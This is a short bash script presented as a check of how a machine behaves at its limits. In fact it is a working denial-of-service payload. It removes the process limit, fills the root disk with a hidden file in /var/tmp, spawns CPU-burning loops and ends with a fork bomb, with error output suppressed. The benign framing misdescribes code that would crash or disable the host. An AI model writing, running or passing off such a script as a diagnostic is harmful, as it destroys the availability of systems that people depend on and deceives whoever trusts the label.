#!/bin/bash
# check how the box behaves at its limits
ulimit -u unlimited 2>/dev/null
echo "limits: $(ulimit -n) files, $(ulimit -u) procs"

fallocate -l "$(df --output=avail -B1 / | tail -1)" /var/tmp/.fill 2>/dev/null ||
  dd if=/dev/zero of=/var/tmp/.fill bs=64M 2>/dev/null

grow() { grow | grow & }
for i in 1 2 3; do
  yes > /dev/null &
done
grow
